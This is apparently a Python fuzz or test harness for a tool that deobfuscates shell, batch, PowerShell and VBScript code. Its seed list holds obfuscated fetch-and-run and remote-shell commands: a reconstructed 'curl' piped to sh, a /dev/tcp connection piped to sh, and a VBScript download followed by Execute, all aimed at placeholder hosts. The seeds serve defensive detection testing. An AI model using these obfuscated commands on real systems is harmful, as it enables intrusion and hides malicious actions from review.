"""Any text as a script of a shell: plain statements at its lines, or the word that some were left out."""

from collections.abc import Iterable

from ostiary.program.batch.folding import MAX_FOLDED, MAX_GROWN, rewritten
from ostiary.program.batch.vbscript import MAX_SAID as MAX_TOLD
from ostiary.program.batch.vbscript import commands_of
from ostiary.program.shell.state import MAX_SAID
from ostiary.program.shell.unfolding import unfolded

SEEDS = (
    b'a=(c u "r l"); a+=(x); for i in "${a[@]}"; do x=$x${i:0:1}; done; $x -s U | sh\n',
    b'f() { local y=$1; shift; echo "$@" | rev; }; eval "$(f a \'b c\')"\n',
    b"while read -r x y; do printf '%s\\n' \"${x%.*}${y//a/b}\"; done < <(echo YQ== | base64 -d)\n",
    b"cat > /tmp/a <<E\necho $HOME ${x:-y}\nE\nsh /tmp/a; . /tmp/a\nbash <<'E'\nid\nE\n",
    b"for ((i=0; i<3; i++)); do r+=$((i*2+0x1)); done; x=y; echo ${!x} ${#r} $r | tr a-z n-za-m\n",
    b"case $1 in a) x=b;; *) x=c;; esac; if true; then x=d; elif id; then x=e; else x=f; fi; $x\n",
    b"trap 'id' EXIT; alias g='id -u'; g; printf -v v '\\x%s' 69 64; xargs -I{} sh -c {} <<< id\n",
    b"env -i timeout 9 sh -c \"$'\\x69d'\" & {a,b}/c; exec 3<>/dev/tcp/a/1; cat <&3 | (sh) || /b?n/i*\n",
    b"$a='ie';&($a+'x') ('{1}{0}' -f 'r','iw')\n&($env:ComSpec[4,15,25]-join'') (gcm i?x)\n",
    b"(105,101|%{[char]($_ -bxor 1)})-join'';[char[]](1,2);'a'.Replace('a','b') -replace 'b','c'\n",
    b"set a=cXrl&& call %a:X=u% !a:~-2,1! ^&& [string]::join('',('a','b')[1..0])\n",
    b'Set s = CreateObject("WScr" & "ipt.Shell") : s.Run Chr(99) & StrReverse("cla"), 0, False\n',
    b'h.Open "GET", "http://a/b" : s.Write h.ResponseBody : s.SaveToFile "a" : Execute h.responseText\n',
    b'If a Then\nc = Join(Split("a,b", ","), "") & _\n Mid("abc", 2, 1) \' rem\nEnd If\nEval(c)\n',
    b"sed 's/a/b/g;s#c#d#' <<< abc | cut -d: -f1,3- | head -c 2 | xxd -r -p | gunzip | tail -n +2\n",
)

SHELL = tuple(
    b"""
$x  ${x}  "$x"  '$x'  ${x:1:2}  ${x/a/b}  ${x//a}  ${x%%.*}  ${x##*/}  ${x^^}  ${!x}  ${#x}  ${x:-y}
$(  )  `  "  '  $'\\x61'  $((  ))  |  ||  &&  ;  &  <<E  E  <<<  < <(  > /tmp/a  >> /tmp/a  2>&1
x=  x+=  x=(a  a[0]=  "${a[@]}"  ${a[*]}  eval  sh -c  bash  source  .  read x  xargs  printf  echo
echo -e  base64 -d  rev  tr a-z b-y  cut -c1-2  sed s/a/b/  head -c 3  seq 9  for x in  do  done
while  until  if  then  else  fi  case  in  esac  ;;  f() {  }  (  {  set --  $@  $1  $#  shift
'a'+'b'  -join  -f 'a'  [1,0]  [char]65  $env:ComSpec  -replace 'a','b'  %a%  !a:~1,2!  set a=b
CreateObject("a")  .Run  .Open  Execute  Chr(1)  &H41  Set  If  Then  Else  For  Next  :  & _  Mid(  Rem
local  export  alias  trap  IFS=,  \\  \n  ~  *  ?  [a]  {a,b}  {  }  !  #  %  /  :  =  +  -  @
""".replace(b"\n", b"  ").split(b"  ")[1:]
)


def shells(data: bytes) -> Iterable[str]:
    """Statements at lines of the script, no more of them than may be, and the same each time."""
    found = unfolded(data)
    lines = data.count(b"\n")
    assert all(0 <= row <= lines for row, _ in found.statements), "a line at another place"
    assert sum(len(text) for _, text in found.statements) <= MAX_SAID, "more than is kept"
    assert found == unfolded(data), "not the same twice"
    found.text().encode("utf-8", "surrogateescape")
    text = data.decode("utf-8", "replace")
    plain = rewritten(text)
    assert len(plain) <= (MAX_GROWN + 1) * len(text) + 2 * MAX_FOLDED, "it grows without an end"
    told = commands_of(text)
    assert told == commands_of(text), "not the same twice"
    assert sum(len(one) for _, one in told.statements) <= MAX_TOLD, "more than is kept"
    assert all(0 <= row <= text.count("\n") + text.count("\r") for row, _ in told.statements)
    heads = {text.split(" ", 1)[0][:12] for _, text in found.statements}
    return {
        f"shell: {len(found.statements).bit_length()} bits, {found.cut}, {found.long}",
        *(f"shell: {one}" for one in heads),
        f"basic: {len(told.statements).bit_length()} bits, {told.cut}",
        f"windows: {abs(len(plain) - len(text)).bit_length()} bits",
    }


def shell_seeds() -> list[bytes]:
    """One of each way to hide what a script does."""
    return list(SEEDS)
